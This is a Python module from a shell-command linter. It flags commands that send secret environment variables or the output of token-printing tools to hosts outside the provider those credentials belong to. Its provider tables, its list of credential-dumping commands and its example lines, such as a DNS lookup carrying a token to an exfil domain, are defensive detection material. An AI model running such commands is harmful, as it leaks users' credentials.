"""Secret values a network command sends: environment variables named for secrets
(`$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`) and the output of commands that print a login
token (`gh auth token`, `gcloud auth print-access-token`), in its words, its stdin (a
pipeline, a heredoc) or its substitutions; and where it sends them (the hosts of its URLs).

Read by the `command` rule kind's `secret_values` condition (shell/commands.py):

- `foreign`: a well-known provider's credential (its variables, its CLI's token) goes to a
  host that is not that provider's (`curl -H "X-Key: $ANTHROPIC_API_KEY" https://x.example`).
  `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com` is how the API is
  called: not foreign.
- `named`: a variable named for a secret that no provider claims (`$DB_PASSWORD`), or a
  provider's credential sent to a host the line does not give (`"$API_URL"`), outside the
  places where a credential goes when an API is called (an `Authorization:` or `*-Token:` /
  `*-Key:` header, `-u user:pass`, `--oauth2-bearer`): the user confirms.

The provider table is data: a provider's variable names (regexes), its token printers (a
program and the words that follow it) and its hosts (globs).
"""

from __future__ import annotations

import functools
import re
from typing import Any, NamedTuple

from wukong_lint.shell.model import Command


class Provider(NamedTuple):
    name: str
    variables: str  # a regex of its variable names
    printers: tuple[tuple[str, ...], ...]  # (program, words...) that print its token
    hosts: tuple[str, ...]  # globs of its hosts


PROVIDERS: tuple[Provider, ...] = (
    Provider(
        "github",
        r"(GITHUB|GH)_(TOKEN|PAT|ENTERPRISE_TOKEN|APP_PRIVATE_KEY)|GITHUB_OAUTH.*|COPILOT_.*TOKEN",
        (
            ("gh", "auth", "token"),
            ("gh", "auth", "status", "--show-token"),
            ("gh", "auth", "status", "-t"),
        ),
        ("github.com", "*.github.com", "*.githubusercontent.com", "ghcr.io", "*.ghe.com"),
    ),
    Provider(
        "gitlab",
        r"(GITLAB|GL|CI_JOB|CI_REGISTRY)_(TOKEN|PASSWORD|PRIVATE_TOKEN)|GITLAB_PRIVATE_TOKEN",
        (
            ("glab", "auth", "status", "--show-token"),
            ("glab", "auth", "status", "-t"),
            ("glab", "config", "get", "token"),
        ),
        ("gitlab.com", "*.gitlab.com"),
    ),
    Provider(
        "aws",
        r"AWS_(SECRET_ACCESS_KEY|SESSION_TOKEN|ACCESS_KEY_ID|SECURITY_TOKEN)",
        (
            ("aws", "configure", "export-credentials"),
            ("aws", "configure", "get"),
            ("aws", "sts", "get-session-token"),
            ("aws", "sts", "assume-role"),
            ("aws", "codeartifact", "get-authorization-token"),
        ),
        ("*.amazonaws.com", "amazonaws.com", "*.aws.amazon.com", "*.amazonaws.com.cn"),
    ),
    Provider(
        "google",
        r"GOOGLE_(API_KEY|APPLICATION_CREDENTIALS|CLIENT_SECRET|OAUTH.*)"
        r"|GCP_.*(KEY|TOKEN|CREDENTIALS)"
        r"|CLOUDSDK_AUTH_ACCESS_TOKEN"
        r"|GEMINI_API_KEY",
        (
            ("gcloud", "auth", "print-access-token"),
            ("gcloud", "auth", "print-identity-token"),
            ("gcloud", "auth", "application-default", "print-access-token"),
        ),
        (
            "*.googleapis.com",
            "googleapis.com",
            "*.google.com",
            "*.run.app",
            "*.cloudfunctions.net",
            "*.gcr.io",
            "*.pkg.dev",
        ),
    ),
    Provider(
        "azure",
        r"(AZURE|ARM)_(CLIENT_SECRET|STORAGE_KEY|STORAGE_ACCOUNT_KEY|ACCESS_TOKEN|SAS_TOKEN)"
        r"|AZURE_DEVOPS_EXT_PAT"
        r"|AZURE_OPENAI_API_KEY"
        r"|SYSTEM_ACCESSTOKEN",
        (
            ("az", "account", "get-access-token"),
            ("az", "acr", "login", "--expose-token"),
        ),
        (
            "*.azure.com",
            "*.windows.net",
            "*.microsoft.com",
            "*.microsoftonline.com",
            "*.azure.net",
            "*.azurecr.io",
            "*.visualstudio.com",
        ),
    ),
    Provider(
        "anthropic",
        r"ANTHROPIC_(API_KEY|AUTH_TOKEN)|CLAUDE_CODE_OAUTH_TOKEN|CLAUDE_API_KEY",
        (),
        ("api.anthropic.com", "*.anthropic.com", "*.claude.ai"),
    ),
    Provider(
        "openai",
        r"OPENAI_(API_KEY|ADMIN_KEY)|CODEX_API_KEY",
        (),
        ("api.openai.com", "*.openai.com"),
    ),
    Provider(
        "npm",
        r"NPM_(TOKEN|AUTH_TOKEN|CONFIG__AUTH.*)|NODE_AUTH_TOKEN",
        (),
        ("registry.npmjs.org", "*.npmjs.org", "*.npmjs.com", "registry.yarnpkg.com"),
    ),
    Provider(
        "pypi",
        r"(PYPI|TWINE)_(TOKEN|PASSWORD|API_TOKEN)|UV_PUBLISH_(TOKEN|PASSWORD)|POETRY_PYPI_TOKEN_.*",
        (),
        ("upload.pypi.org", "pypi.org", "*.pypi.org"),
    ),
    Provider(
        "docker",
        r"DOCKER(HUB)?_(PASSWORD|TOKEN|PAT|AUTH_CONFIG)",
        (),
        ("*.docker.io", "docker.io", "*.docker.com"),
    ),
    Provider(
        "huggingface",
        r"(HF|HUGGING_FACE_HUB|HUGGINGFACE(_HUB)?)_(TOKEN|API_KEY)",
        (),
        ("huggingface.co", "*.huggingface.co", "hf.co", "*.hf.co"),
    ),
    Provider(
        "slack",
        r"SLACK_(TOKEN|BOT_TOKEN|USER_TOKEN|APP_TOKEN|SIGNING_SECRET|WEBHOOK_URL)",
        (),
        ("slack.com", "*.slack.com"),
    ),
    Provider(
        "stripe",
        r"STRIPE_(SECRET_KEY|API_KEY|RESTRICTED_KEY|WEBHOOK_SECRET)",
        (),
        ("api.stripe.com", "*.stripe.com"),
    ),
    Provider(
        "heroku",
        r"HEROKU_API_KEY",
        (("heroku", "auth:token"),),
        ("api.heroku.com", "*.heroku.com"),
    ),
    Provider(
        "cloudflare",
        r"CLOUDFLARE_(API_TOKEN|API_KEY)|CF_API_(TOKEN|KEY)",
        (),
        ("api.cloudflare.com", "*.cloudflare.com"),
    ),
    Provider(
        "digitalocean",
        r"DIGITALOCEAN_(ACCESS_)?TOKEN|DO_TOKEN",
        (),
        ("api.digitalocean.com", "*.digitalocean.com"),
    ),
    Provider(
        "sentry",
        r"SENTRY_AUTH_TOKEN",
        (),
        ("sentry.io", "*.sentry.io"),
    ),
)

# Programs whose output is a secret of no particular provider: a machine's or a cluster's
# (piped to a network command, it is sent; its destination cannot make it legitimate).
SECRET_PRINTERS: tuple[tuple[str, ...], ...] = (
    ("git", "credential", "fill"), ("git", "credential-store", "get"),
    ("git", "credential-cache", "get"), ("git", "credential-osxkeychain", "get"),
    ("git", "credential-manager", "get"), ("kubectl", "config", "view", "--raw"),
    ("kubectl", "create", "token"), ("kubectl", "get", "secret"), ("kubectl", "get", "secrets"),
    ("vault", "print", "token"), ("vault", "token", "create"), ("vault", "kv", "get"),
    ("docker", "inspect"), ("security", "find-generic-password"),
    ("security", "find-internet-password"), ("pass", "show"), ("op", "read"),
)  # fmt: skip

# A variable named for a secret: *_TOKEN, *SECRET*, *PASSWORD*, *_KEY, *_PASS...; not a
# socket, a path or a URL to one (`SSH_AUTH_SOCK`), nor an identifier.
_SECRET_NAME = re.compile(
    r"(?:^|_)(?:TOKEN|TOKENS|PASSWD|PASSPHRASE|CREDENTIALS?|APIKEY|API_KEY)(?:_|$)"
    r"|SECRET|PASSWORD|_(?:KEY|PAT|PASS|PWD|AUTH)(?:_|$)"
)
_NOT_SECRET = re.compile(r"_(?:SOCK|DIR|PATH|URL|URI|HOST|REGION|NAME|ID|TYPE|FILE_PATH)$")
_VARIABLE = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
_LOCAL = re.compile(
    r"^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[?::1\]?|host\.docker\.internal)$"
)
_URL_HOST = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*://(?:[^/@\s]*@)?(\[[^\]]*\]|[^/:?#\s]*)")
_BARE_HOST = re.compile(
    r"^(?:[^/@\s:]+@)?((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|localhost|\d+\.\d+\.\d+\.\d+)(?::\d+)?(?:[/?#].*)?$"
)
# where a credential goes when an API is called: an auth header, a user, a bearer option
_AUTH_HEADER = re.compile(
    r"(?i)^\s*[\w-]*(?:auth|token|key|secret|session|cookie|password)[\w-]*\s*[:=]"
)
_AUTH_OPTIONS = frozenset(["-u", "--user", "--oauth2-bearer", "--proxy-user", "-U",
                           "--password", "--http-password", "--http-user", "--auth", "-a",
                           "--aws-sigv4"])  # fmt: skip
_HEADER_OPTIONS = frozenset(["-H", "--header", "--proxy-header"])
_DATA_OPTIONS = frozenset(["-d", "--data", "--data-raw", "--data-binary", "--data-urlencode",
                           "-F", "--form", "--form-string", "--json", "-T", "--upload-file",
                           "--post-data", "--body-data"])  # fmt: skip
# name lookups: the secret is in the name asked for, the domain after it gets it
_DNS = frozenset(["dig", "nslookup", "host", "drill", "kdig", "delv"])
_DOMAIN_TAIL = re.compile(r"[)}A-Za-z0-9_]\.((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,})\.?$")


@functools.lru_cache(maxsize=256)
def _provider_of(variable: str) -> Provider | None:
    for provider in PROVIDERS:
        if re.fullmatch(provider.variables, variable):
            return provider
    return None


def secret_variable(name: str) -> bool:
    """Is an environment variable's name one of a secret (`*_TOKEN`, `*SECRET*`...)?"""
    upper = name.upper()
    if _provider_of(upper) is not None:
        return True
    return _SECRET_NAME.search(upper) is not None and _NOT_SECRET.search(upper) is None


def _host_matches(host: str, globs: tuple[str, ...]) -> bool:
    from fnmatch import fnmatchcase

    host = host.lower().strip("[]").rstrip(".")
    return any(fnmatchcase(host, g) for g in globs)


def hosts(command: Command) -> tuple[list[str], bool]:
    """(the hosts a network command talks to, whether one is not told by the line: a
    variable or a substitution in its place)."""
    found: list[str] = []
    unknown = False
    argv = command.argv
    for index, word in enumerate(argv[1:], 1):
        if word.startswith("-") and index > 0:
            if word.startswith("--url="):
                word = word[6:]
            elif "=" in word and "://" in word:
                word = word.split("=", 1)[1]
            else:
                continue
        if argv[index - 1] in _HEADER_OPTIONS or argv[index - 1] in ("-d", "--data", "-X"):
            continue
        match = _URL_HOST.match(word)
        if match is not None:
            host = match.group(1)
            if "$" in host or "`" in host or not host:
                unknown = True
            else:
                found.append(host)
            continue
        if "$" in word and command.name in _DNS:
            domain = _DOMAIN_TAIL.search(word)  # `dig "$TOKEN.exfil.example.net"`
            if domain is not None:
                found.append(domain.group(1))
                continue
        if word.startswith("$") and not found:
            unknown = True  # `curl "$API_URL"`: where it goes is not on the line
            continue
        if word.upper().startswith(("TCP:", "TCP4:", "TCP6:", "OPENSSL:", "SSL:", "UDP:")):
            parts = word.split(":")
            if len(parts) >= 2 and parts[1]:
                found.append(parts[1].split(",")[0])
            continue
        bare = _BARE_HOST.match(word)
        if bare is not None and not word.startswith(("./", "../")):
            found.append(bare.group(1))
        elif word.startswith(":") and command.name in ("http", "https", "xh", "xhs"):
            found.append("localhost")  # httpie's `:8000/items`
    return found, unknown and not found


def _printers_in(command: Command) -> list[tuple[str, ...]]:
    """Token printers whose output the command reads: a pipeline's earlier stage (its
    program among `stdin_from`, its words among `stdin_args`) or a substitution in its
    words (`$(gh auth token)`)."""
    found = []
    joined_args = " " + " ".join(command.stdin_args) + " "
    words = " ".join(command.argv[1:])
    specs = [p for provider in PROVIDERS for p in provider.printers] + list(SECRET_PRINTERS)
    for spec in specs:
        program, rest = spec[0], spec[1:]
        tail = " " + " ".join(rest) + " " if rest else " "
        piped = program in command.stdin_from and (not rest or tail in joined_args)
        if piped or (
            ("$(" in words or "`" in words)
            and re.search(r"(?:\$\(|`)\s*" + re.escape(" ".join(spec)) + r"\b", words)
        ):
            found.append(spec)
    return found


def _variables(command: Command) -> list[tuple[str, bool]]:
    """(name, in an auth place) of the secret variables the command sends: in its words,
    its here-document or here-string, the words of its pipeline's earlier stages."""
    found: list[tuple[str, bool]] = []
    argv = command.argv
    for index, word in enumerate(argv[1:], 1):
        if "$" not in word:
            continue
        before = argv[index - 1]
        auth = before in _AUTH_OPTIONS or (
            before in _HEADER_OPTIONS and _AUTH_HEADER.match(word) is not None
        )
        if command.name in ("http", "https", "xh", "xhs") and _AUTH_HEADER.match(word):
            auth = True  # httpie's `Authorization:"Bearer $T"`
        if word.startswith("--") and "=" in word:
            option = word.split("=", 1)[0]
            auth = option in _AUTH_OPTIONS or (
                option in _HEADER_OPTIONS and _AUTH_HEADER.match(word.split("=", 1)[1]) is not None
            )
        names = [(m.group(1), auth) for m in _VARIABLE.finditer(word)]
        if word.startswith("$") and before not in _DATA_OPTIONS and not before.startswith("-"):
            names = names[1:]  # (`curl "$SLACK_WEBHOOK_URL" -d ...`: where it goes, not what)
        found += names
    for text in (command.heredoc or "", *command.stdin_args):
        if "$" in text:
            found += [(m.group(1), False) for m in _VARIABLE.finditer(text)]
    if "printenv" in command.stdin_from:  # `printenv GITHUB_TOKEN | curl -d @- ...`
        found += [(word, False) for word in command.stdin_args if word.isidentifier()]
    return [(name, auth) for name, auth in found if secret_variable(name)]


def verdict(command: Command) -> tuple[bool, bool]:
    """(foreign, named) for a network command: see the module docstring."""
    variables = _variables(command)
    printers = _printers_in(command)
    if not variables and not printers:
        return False, False
    destinations, unknown = hosts(command)
    remote = [h for h in destinations if not _LOCAL.match(h.strip("[]"))]
    if destinations and not remote:
        return False, False  # only this machine
    foreign = named = False
    for name, auth in variables:
        provider = _provider_of(name.upper())
        if provider is not None and remote:
            if any(not _host_matches(h, provider.hosts) for h in remote):
                foreign = True
        elif not auth or provider is not None:
            named = True
    for spec in printers:
        provider = next((p for p in PROVIDERS if spec in p.printers), None)
        if provider is None:
            foreign = True  # a machine's or a cluster's secret, sent away
        elif remote and any(not _host_matches(h, provider.hosts) for h in remote):
            foreign = True
        elif not remote:
            named = True
    if unknown and not remote and (variables or printers):
        named = True
    return foreign, named


def matches(kind: Any, command: Command) -> bool:
    """The `secret_values` condition of a block: `foreign`, `named`, `any` of them, or
    `words` (its words name a secret variable, wherever it goes: `echo $GITHUB_TOKEN`)."""
    if "$" not in " ".join(command.argv) and not command.stdin_from and not command.heredoc:
        return False  # (the usual case: nothing that could hold a secret value)
    if kind == "words":
        return any(
            secret_variable(m.group(1))
            for word in command.argv[1:]
            for m in _VARIABLE.finditer(word)
        )
    foreign, named = verdict(command)
    if kind == "foreign":
        return foreign
    return named if kind == "named" else foreign or named
